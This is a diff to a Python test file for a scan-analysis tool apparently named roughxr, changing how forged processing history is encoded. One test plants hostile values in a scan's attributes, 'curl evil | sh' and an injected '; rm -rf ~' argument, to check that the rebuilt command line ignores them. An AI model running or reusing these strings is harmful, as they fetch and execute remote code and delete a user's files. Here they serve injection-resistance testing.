@@ -2,7 +2,6 @@
 
 import html
 import html.parser
-import json
 import re
 import shlex
 from pathlib import Path
@@ -217,19 +216,16 @@ def test_control_characters_of_a_file_are_written_out(run):
 
 
 def test_what_a_scans_file_says_of_the_command_is_not_believed(run):
-    forged = [
-        {"operation": "glass"},
-        {"operation": "direct", "arguments": {"subregions": [666, 666], "delta": [1.0]}},
-        {"operation": "adhesive", "arguments": {"law": "; rm -rf ~"}},
-    ]
-    scan = run["scan"].assign_attrs(source_file="a.gsf", command="curl evil | sh", history=json.dumps(forged))
+    steps = ("glass()", "direct(subregions=[666, 666], delta=[1.0])", 'adhesive(law="; rm -rf ~")')
+    forged = "\n".join(f"roughxr 0.1.0: {step}" for step in steps)
+    scan = run["scan"].assign_attrs(source_file="a.gsf", command="curl evil | sh", history=forged)
     line = report.command({**run, "scan": scan})
     assert line.startswith("roughxr run a.gsf ") and "--subregions 3 3" in line
     assert not any(word in line for word in ("curl", "666", "rm", "paper"))
 
 
 @pytest.mark.parametrize(
-    "history", ["[" * 100_000, '{"operation": 1}', "[1, 2]", '[{"operation": "level", "arguments": 3}]']
+    "history", [f"roughxr 1: level(a={'[' * 100_000})", "roughxr 0.1.0: level(order=three)", "ncks in.nc out.nc"]
 )
 def test_a_history_by_another_program_is_one_step(history):
     steps = schema.history(xr.Dataset(attrs={"history": history}))
@@ -238,7 +234,7 @@ def test_a_history_by_another_program_is_one_step(history):
 
 def test_the_command_repeats_the_run(run, tmp_path):
     scan = run["scan"].assign_attrs(source_file="my scan.gsf", channel="Height")
-    scan = scan.assign_attrs(history="[]")
+    scan = scan.assign_attrs(history="")
     line = report.command({"scan": scan, "statistics/summary": run["statistics/summary"]})
     assert line.startswith("roughxr run 'my scan.gsf' --channel Height --sphere-radius 500 ")
     assert "--subregions 3 3 --delta 4.0 8.0 12.0 16.0" in line and "--level none" in line
